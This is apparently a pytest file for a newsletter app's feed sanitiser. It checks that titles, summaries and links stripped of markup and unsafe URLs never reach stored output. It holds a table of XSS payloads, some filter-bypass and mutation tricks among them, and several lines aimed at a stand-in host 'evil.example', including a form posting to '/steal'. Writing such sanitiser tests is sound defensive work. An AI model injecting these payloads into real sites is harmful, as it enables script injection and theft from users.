"""A table of XSS payloads in titles, summaries and links: none survives into stored output."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from newsletter.feeds.parse import parse_feed
from newsletter.feeds.sanitize import clean_html, plain_text, safe_url

from .helpers import articles, feed_for, poll
from .samples import Item, rss2
from .server import Route

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" java\tscript:alert(1)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<a href="vbscript:msgbox(1)">v</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/steal"><input name=p><button>Go</button></form>',
    '<body onload="alert(1)">',
    '<div style="background:url(javascript:alert(1))">s</div>',
    '<p onclick="alert(1)" onmouseover="alert(2)">p</p>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '"><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="https://ok.example/i.png" srcset="javascript:alert(1)">',
    "<!--<script>alert(1)</script>-->",
    '<a href="https://ok.example/" target="_blank" onfocus="alert(1)" autofocus>x</a>',
]
SAFE_TAGS = {"p", "br", "a", "em", "strong", "b", "i", "u", "ul", "ol", "li", "blockquote", "q",
             "code", "pre", "h2", "h3", "h4", "figure", "figcaption", "img", "sub", "sup", "small"}


class _Audit(HTMLParser):
    """Reads the output the way a browser's tokenizer would and lists what is not allowed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcset", "formaction", "action"}:
                self.problems.append(f"attribute {name}")
            if name in {"href", "src"} and not (value or "").startswith(("http://", "https://")):
                self.problems.append(f"url {value}")

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")


def assert_safe_html(html: str) -> None:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    assert audit.problems == [], html


def assert_plain(text: str) -> None:
    """Plain text: shown escaped, but it must not even look like markup."""
    assert not re.search(r"<\s*[a-z!/]", text, re.IGNORECASE), text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_summary_payload_is_neutralised(payload):
    assert_safe_html(clean_html(payload))
    assert_safe_html(clean_html(payload, plain=True))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_title_payload_becomes_plain_text(payload):
    assert_plain(plain_text(payload))


@pytest.mark.parametrize("link", ["javascript:alert(1)", "data:text/html,<script>", "vbscript:x",
                                  " javascript:alert(1)", "jav&#x09;ascript:alert(1)",
                                  "https://user:pass@evil.example/", "//evil.example/x", "/relative"])
def test_unsafe_links_are_dropped(link):
    assert safe_url(link) is None


def test_payloads_in_a_served_feed_never_reach_the_database(db, topic, settings, feed_server):
    feed_items = [Item(title=f"Title {p}", link=f"https://example.com/story/{k}", guid=f"x{k}",
                       summary=f"Summary {p}", image="javascript:alert(1)")
                  for k, p in enumerate(PAYLOADS)]
    feed = feed_for(db, feed_server.add("/xss.xml", Route(rss2(feed_items))))
    assert poll(db, feed, settings).new == len(PAYLOADS)
    stored = articles(db, feed)
    assert len(stored) == len(PAYLOADS)
    for article in stored:
        assert_safe_html(article.summary)
        assert_plain(article.title)
        assert article.url.startswith("https://example.com/story/")
        assert article.image_url is None or article.image_url.startswith("http")


def test_text_plain_title_with_markup_is_escaped_not_trusted():
    body = (b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>T</title>'
            b'<entry><title type="text">&lt;img src=x onerror=alert(1)&gt; Budget</title>'
            b'<link href="https://example.com/a"/><id>a</id><updated>2026-01-01T00:00:00Z</updated>'
            b'<summary type="text">&lt;script&gt;alert(1)&lt;/script&gt; plain</summary></entry></feed>')
    (entry,) = parse_feed(body).entries
    assert entry.title == "Budget"
    assert_safe_html(entry.summary)
    assert "plain" in entry.summary


def test_javascript_entry_link_is_not_stored(db, topic, settings, feed_server):
    feed = feed_for(db, feed_server.add("/jslink.xml", Route(rss2([
        Item("Evil", "javascript:alert(1)", guid="e"), Item("Fine", "https://example.com/f")]))))
    poll(db, feed, settings)
    assert [a.url for a in articles(db, feed)] == ["https://example.com/f"]
